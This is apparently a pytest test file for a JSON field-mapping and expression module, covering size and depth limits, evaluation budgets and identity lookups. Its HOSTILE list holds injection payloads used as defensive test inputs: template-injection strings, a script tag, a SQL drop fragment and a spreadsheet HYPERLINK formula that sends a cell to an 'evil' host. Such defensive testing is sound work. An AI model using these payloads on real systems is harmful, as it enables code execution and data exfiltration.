"""Field mappings: what is refused when saved, what comes out, and what is told when nothing can."""

import copy
from datetime import UTC

import pytest

from hub.mappings.translate import (
    IdentityMissing,
    MappingError,
    MappingFailed,
    collect_identities,
    compile_mapping,
    translate,
)
from tests.hub.mappings.example_order import ORDER, PEOPLE, translate_example


def refusal(mapping):
    with pytest.raises(MappingError) as error:
        compile_mapping(mapping)
    return error.value.path, error.value.message


def failure(expression, document=ORDER):
    with pytest.raises(MappingFailed) as error:
        translate_example({"field": expression}, document)
    return error.value.message, error.value.value


def nest_objects(depth, leaf):
    for _ in range(depth):
        leaf = {"a": leaf}
    return leaf


def test_a_mapping_is_filled_in_at_any_depth():
    mapping = {
        "channel": "'#orders'",
        "text": "concat('New order of ', money(data.total, data.currency))",
        "more": {
            "when": "format_date(occurred_at, 'HH:mm')",
            "skus": "data.lines[].sku",
            "list": ["type", 1, None, True],
        },
        "nickname": "data.nickname",
        "owner": "identity('user', data.owner)",
    }
    assert translate_example(mapping) == {
        "channel": "#orders",
        "text": "New order of 40.00 EUR",
        "more": {"when": "14:00", "skus": ["a", "b"], "list": ["order.created", 1, None, True]},
        "nickname": None,
        "owner": "U7",
    }


def test_an_empty_mapping_gives_an_empty_object():
    assert translate_example({}) == {}


def test_the_same_document_gives_the_same_and_stays_as_it_is():
    before = copy.deepcopy(ORDER)
    mapping = compile_mapping({"data": "data", "constant": '`{"a": []}`'})
    first = translate(mapping, ORDER, zone=UTC, look_up_identity=PEOPLE.get)
    first["data"]["lines"].clear()
    first["constant"]["a"].append(1)
    assert translate(mapping, ORDER, zone=UTC, look_up_identity=PEOPLE.get) == {
        "data": before["data"],
        "constant": {"a": []},
    }
    assert before == ORDER


@pytest.mark.parametrize(
    ("mapping", "path", "message"),
    [
        ([], "", "a field mapping is a JSON object"),
        (None, "", "a field mapping is a JSON object"),
        ("data", "", "a field mapping is a JSON object"),
        ({"a": object()}, "", "is not JSON, or nested too deeply"),
        ({"a": "x" * 66_000}, "", "is larger than 64 KiB"),
        (nest_objects(21, "id"), "/a" * 21, "is nested deeper than 20 levels"),
        ({"a": [0] * 501}, "/a/500", "has more than 500 fields"),
        ({"a": [{}] * 501}, "/a/500", "has more than 500 fields"),
        ({1: "id"}, "", "has a key that is not text"),
        ({"a\0": "id"}, "", "has a NUL character, which cannot be stored"),
        ({"a": {"\ud800": "id"}}, "/a", "has an unpaired surrogate, which cannot be encoded"),
        ({"a": float("nan")}, "/a", "is NaN or infinite, which JSON does not have"),
        ({"a": 10**30}, "/a", "is a whole number of more than 64 bits"),
        ({"a": ["id", {"b/c~d": "nope("}]}, "/a/1/b~1c~0d", "is incomplete"),
        ({"a": "shout(id)"}, "/a", "calls shout(), which does not exist"),
    ],
    ids=lambda value: None if isinstance(value, str) else "mapping",
)
def test_a_mapping_with_a_mistake_is_not_saved(mapping, path, message):
    assert refusal(mapping) == (path, message)


def test_a_mapping_nested_beyond_reason_is_not_saved():
    assert (
        "too deeply" in refusal(nest_objects(5000, 1))[1]
        or "deeper than 20" in refusal(nest_objects(5000, 1))[1]
    )


def test_a_mapping_may_be_as_deep_and_as_wide_as_it_says():
    assert translate_example(nest_objects(20, "id")) == nest_objects(20, ORDER["id"])
    assert len(translate_example({str(number): "id" for number in range(500)})) == 500


def test_an_error_says_where_and_which_expression():
    with pytest.raises(MappingFailed) as error:
        translate_example({"a": {"b": "upper(data.total)"}})
    assert str(error.value) == "/a/b: upper() takes string: 40"
    assert error.value.expression == "upper(data.total)"


def test_an_unknown_identity_flies_as_it_is():
    with pytest.raises(IdentityMissing) as error:
        translate_example({"a": "identity('deal', data.owner)"})
    assert (error.value.kind, error.value.value) == ("deal", "7")


@pytest.mark.parametrize(
    ("value", "message", "told"),
    [
        (float("nan"), "is NaN or infinite, which JSON does not have", "NaN"),
        (float("-inf"), "is NaN or infinite, which JSON does not have", "-Infinity"),
        (2**64, "is a whole number of more than 64 bits", "18446744073709551616"),
        ("a\0b", "has a NUL character, which cannot be stored", '"a\\u0000b"'),
        ([{"\ud800": 1}], "has an unpaired surrogate, which cannot be encoded", '"\\ud800"'),
        ({1: 1}, "has a key that is not text", "1"),
        (UTC, "is not a JSON value", '"…"'),
    ],
    ids=str,
)
def test_what_cannot_be_stored_does_not_come_out(value, message, told):
    assert failure("data", {"data": value}) == (message, told)


def test_a_result_is_bounded_in_size_and_depth():
    assert failure("data", {"data": ["x" * 1000] * 300}) == ("is larger than 256 KiB", "")
    assert failure("data", {"data": nest_objects(65, 1)})[0] == "is nested deeper than 64 levels"


def test_all_fields_of_a_message_share_its_budget():
    half = f"length({'|'.join(['[@,@][]'] * 12)})"
    assert translate_example({"a": half}) == {"a": 2**12}
    with pytest.raises(MappingFailed, match="takes more than 30000 steps"):
        translate_example({"a": half, "b": half})


@pytest.mark.parametrize("step", ["[@,@]", "[@,@][]"])
@pytest.mark.parametrize("times", [18, 22, 60])
def test_an_expression_that_explodes_is_stopped(step, times):
    assert failure("|".join([step] * times))[0] in {
        "takes more than 30000 steps to evaluate",
        "is larger than 256 KiB",
        "is nested deeper than 64 levels",
    }


HOSTILE = [
    "{{7*7}}",
    "{{constructor.constructor('x')()}}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__.__mro__}",
    "%(x)s",
    "__import__('os')",
    "a.__class__",
    "a[-1]",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil?"&A1,"x")',
    "'; DROP TABLE",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_template_from_elsewhere_is_refused_or_finds_nothing(text):
    try:
        result = translate_example({"field": text})
    except MappingError:
        return
    assert result == {"field": None}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_template_in_the_data_or_in_a_literal_stays_text(text):
    quoted = text.replace("'", "\\'")
    mapping = {"data": "concat('', data)", "literal": f"replace('x', 'x', '{quoted}')"}
    assert translate_example(mapping, {"data": text}) == {"data": text, "literal": text}


# --- identities beforehand ------------------------------------------------------------------------


def test_the_identities_of_a_message_can_be_known_beforehand():
    mapping = compile_mapping(
        {"a": "identity('user', data.owner)", "b": ["data.lines[].identity('sku', sku)", "id"]}
    )
    assert collect_identities(mapping, ORDER, UTC) == {("user", "7"), ("sku", "a"), ("sku", "b")}
    assert collect_identities(compile_mapping({"a": "id"}), ORDER, UTC) == set()


def test_a_mapping_that_cannot_be_filled_in_asks_for_what_it_can():
    mapping = compile_mapping(
        {"a": "identity('user', upper(data.owner))", "b": "identity('user', data.owner)"}
    )
    assert collect_identities(mapping, ORDER, UTC) == {("user", "7")}
